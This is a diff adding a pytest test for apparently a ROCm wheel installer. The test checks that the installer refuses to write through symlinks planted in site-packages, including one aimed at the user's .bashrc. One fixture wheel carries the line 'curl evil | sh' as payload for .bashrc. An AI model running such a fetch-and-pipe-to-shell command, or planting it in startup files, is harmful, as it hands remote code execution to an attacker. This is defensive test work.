@@ -199,3 +199,18 @@ def test_a_truncated_devel_tarball_is_one_line(victim):
     tarball.write_bytes(tarball.read_bytes()[:1500])
     refused(rocm_wheels("expand-devel", site), "rocm_wheels.py:")
     untouched(home, prefix)
+
+
+def test_a_wheel_is_never_written_through_a_symlink_already_in_the_prefix(victim):
+    """A folder of site-packages that is a link out (planted, or left by another package): a wheel member under it
+    is refused, and a member named as a link replaces the link instead of writing where it points."""
+    home, prefix, site = victim
+    (site / "evil").symlink_to(home)
+    (site / "tool.py").symlink_to(home / ".bashrc")
+    wheel = make_wheel(prefix.parent / "wheels", "tool", "1.0", "py3-none-any", {"tool.py": "x = 1\n"})
+    assert install_wheels(prefix, wheel).returncode == 0
+    assert not (site / "tool.py").is_symlink() and (site / "tool.py").read_text() == "x = 1\n"
+    wheel = make_wheel(prefix.parent / "wheels", "evil", "1.0", "py3-none-any", {"evil/.bashrc": "curl evil | sh\n"})
+    refused(install_wheels(prefix, wheel), "'lib/python3.12/site-packages/evil'", "refusing")
+    (site / "evil").unlink()
+    untouched(home, prefix)
